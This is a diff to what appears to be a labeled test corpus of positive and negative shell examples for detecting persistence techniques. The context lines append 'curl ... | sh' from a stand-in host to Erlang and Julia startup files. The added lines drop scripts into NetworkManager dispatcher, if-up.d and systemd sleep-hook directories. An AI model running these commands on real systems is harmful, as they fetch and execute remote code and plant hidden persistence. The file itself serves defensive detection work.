@@ -531,3 +531,16 @@ echo 'os:cmd("curl -s https://x.example/e | sh").' >> ~/.erlang
 echo 'run(`sh -c "curl -s https://x.example/j | sh"`)' >> ~/.julia/config/startup.jl
 #@ neg a package loaded from Julia's startup.jl
 echo 'using Revise' >> ~/.julia/config/startup.jl
+#@ pos a script written into NetworkManager's dispatcher
+printf '#!/bin/sh\n/opt/x\n' | sudo tee /etc/NetworkManager/dispatcher.d/90-sync
+#@ pos a script written into ifupdown's if-up.d
+cat > /etc/network/if-up.d/zz-sync <<'H'
+#!/bin/sh
+/opt/x
+H
+#@ pos a script installed as a systemd sleep hook
+sudo install -m 755 "$hook" /usr/lib/systemd/system-sleep/resume
+#@ neg the dispatcher's scripts copied out
+cp -a /etc/NetworkManager/dispatcher.d/. ~/backup/nm/
+#@ neg the dispatcher's scripts listed
+ls /etc/NetworkManager/dispatcher.d/
